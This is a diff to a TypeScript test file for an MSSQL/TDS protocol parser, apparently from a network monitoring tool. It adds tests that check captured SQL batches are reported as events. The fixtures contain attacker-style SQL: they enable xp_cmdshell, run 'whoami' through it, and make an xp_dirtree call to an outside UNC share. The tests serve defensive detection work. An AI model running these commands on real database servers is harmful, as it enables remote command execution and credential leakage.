@@ -4,12 +4,14 @@
  * error 18456, the login inside TLS with its answer in clear (user from the
  * error text), whole-session TLS (unknown), a LOGIN7 without PRELOGIN, a
  * pre-TDS 7 login record, an integrated (SSPI) sign-in, other errors,
- * messages split over packets, the probe, chunking and mutations.
+ * messages split over packets, SQL batches after the login (in clear, or
+ * after a login inside TLS), the probe, chunking and mutations.
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { probeTds, tdsSpec } from '../../../src/protocols/tds/index.js';
 import { C, S, assertSplitInvariant, auths, bytes, fuzz, outcomes, play, type Step } from '../mail/session.js';
+import type { MssqlBatchEvent } from '../../../src/protocols/tds/events.js';
 
 const le16 = (v: number): number[] => [v & 0xff, v >> 8];
 const le32 = (v: number): number[] => [v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff, v >>> 24];
@@ -169,8 +171,12 @@ test('mssql: a login split over several packets; the same events whatever the ch
 test('mssql: not TDS is left alone; malformed TDS is counted, never thrown', () => {
   const http = play(tdsSpec, [[C, bytes(Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'))]]);
   assert.deepEqual([http.services, http.anomalies, outcomes(http)], [[], [], []]);
-  const lie = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, bytes([0x04, 0, 0xff, 0xff, 0, 0, 1, 0], new Uint8Array(20))], [S, new Uint8Array(70_000)]]);
+  // A message whose packets add up to more than a message may hold.
+  const part = bytes([0x04, 0, 0x9c, 0x48, 0, 0, 1, 0], new Uint8Array(40_000));
+  const lie = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, bytes(part, part)]]);
   assert.deepEqual(lie.anomalies, ['tds.message_too_long']);
+  const zeroLength = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, new Uint8Array(70_000)]]);
+  assert.deepEqual(zeroLength.anomalies, ['tds.bad_packet']);
   assert.deepEqual(outcomes(lie).map((o) => o[0]), ['unknown']);
   const badLogin = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, message(0x04, prelogin(NOT_SUPPORTED))], [C, message(0x10, new Uint8Array(20))]]);
   assert.deepEqual(badLogin.anomalies, ['tds.bad_packet']);
@@ -186,4 +192,45 @@ test('mssql: probe', () => {
 
 test('mssql: mutated sessions never throw', () => {
   fuzz(tdsSpec, [CLEAR_OK, CLEAR_FAIL], 0x7d5, 3000);
+});
+
+/** A SQL batch with TDS 7.2's ALL_HEADERS (one transaction descriptor header). */
+function batch(sql: string, per?: number): Uint8Array {
+  const headers = bytes(le32(22), le32(18), le16(2), new Uint8Array(8), le32(1));
+  return message(0x01, bytes(headers, utf16(sql)), per);
+}
+const batches = (ctx: ReturnType<typeof play>): string[] => ctx.events.filter((e): e is MssqlBatchEvent => e.type === 'mssql.batch').map((e) => e.text);
+
+test('mssql: SQL batches after a login in clear are events with their text; none before the login is accepted or after a refusal', () => {
+  const ctx = play(tdsSpec, [...CLEAR_OK, [C, batch("EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;")], [C, message(0x03, new Uint8Array(30))], [C, batch('SELECT @@version', 5)]], { conn: { resp_p: 1433 } });
+  assert.deepEqual(batches(ctx), ["EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;", 'SELECT @@version']);
+  const e = ctx.events.find((x): x is MssqlBatchEvent => x.type === 'mssql.batch')!;
+  assert.deepEqual([e.user, e.server_port, e.client], ['app', 1433, '10.0.0.1']);
+  // Without ALL_HEADERS (TDS 7.1 and before) the text starts at once.
+  assert.deepEqual(batches(play(tdsSpec, [...CLEAR_OK, [C, message(0x01, utf16('SELECT 1'))]])), ['SELECT 1']);
+  assert.deepEqual(batches(play(tdsSpec, [...CLEAR_FAIL, [C, batch('SELECT 1')]])), []);
+});
+
+test('mssql: after a login inside TLS, the TLS records are stepped over and the batches read; the user is the one the answer named', () => {
+  const ctx = play(tdsSpec, [
+    [C, message(0x12, prelogin(OFF))],
+    [S, message(0x04, prelogin(OFF))],
+    [C, message(0x12, bytes([0x16, 3, 1, 0, 4], [1, 0, 0, 0]))],
+    [S, message(0x12, bytes([0x16, 3, 3, 0, 4], [2, 0, 0, 0]))],
+    [C, bytes([0x17, 3, 3, 0, 8], new Uint8Array(8))],
+    [S, message(0x04, LOGINACK)],
+    [C, batch("EXEC master..xp_cmdshell 'whoami'")],
+  ]);
+  assert.deepEqual(outcomes(ctx).map((o) => o[0]), ['success']);
+  assert.deepEqual(batches(ctx), ["EXEC master..xp_cmdshell 'whoami'"]);
+});
+
+test('mssql: a batch longer than a message keeps its head; the batches read whatever the chunking', () => {
+  const long = 'SELECT 1 -- ' + 'x'.repeat(40_000);
+  const ctx = play(tdsSpec, [...CLEAR_OK, [C, batch(long, 4088)], [C, batch('SELECT 2')]]);
+  const got = batches(ctx);
+  assert.equal(got.length, 2);
+  assert.ok(got[0]!.startsWith('SELECT 1 -- xxx') && got[0]!.length === 2048);
+  assert.equal(got[1], 'SELECT 2');
+  assertSplitInvariant(tdsSpec, [...CLEAR_OK, [C, batch("EXEC xp_dirtree '\\\\198.51.100.10\\share'")]]);
 });
